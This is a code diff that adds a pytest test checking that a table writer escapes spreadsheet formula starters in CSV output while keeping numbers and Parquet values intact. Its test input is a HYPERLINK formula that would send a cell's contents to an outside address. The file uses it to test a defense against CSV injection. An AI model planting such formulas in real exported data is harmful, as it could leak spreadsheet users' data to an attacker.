@@ -41,6 +41,22 @@ def test_csv_has_a_header_and_empty_cells(tmp_path: Path) -> None:
     assert [row["flag"] for row in found] == ["true", "", "false"]
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+def test_no_text_is_a_formula_in_a_spreadsheet(tmp_path: Path, start: str) -> None:
+    """Answers and ids are a stranger's: a cell of theirs must not run. Numbers stay numbers."""
+    path = tmp_path / "rows.csv"
+    hostile = f'{start}HYPERLINK("http://192.0.2.1/?"&A1)'
+    row = {"id": hostile, "n": -3, "share": -0.5, "flag": True, "text": f"fine\r{hostile}"}
+    write_table(str(path), COLUMNS, [row])
+    with path.open(encoding="utf-8", newline="") as file:
+        header, cells = list(csv.reader(file))
+    assert header == list(COLUMNS)
+    assert cells == [f"'{hostile}", "-3", "-0.5", "true", f"fine\r{hostile}"]
+    path = tmp_path / "rows.parquet"
+    write_table(str(path), COLUMNS, [row])
+    assert pyarrow.parquet.read_table(path).to_pylist() == [row]
+
+
 def test_parquet_has_the_declared_types_and_nulls(tmp_path: Path) -> None:
     path = tmp_path / "rows.parquet"
     write_table(str(path), COLUMNS, ROWS)
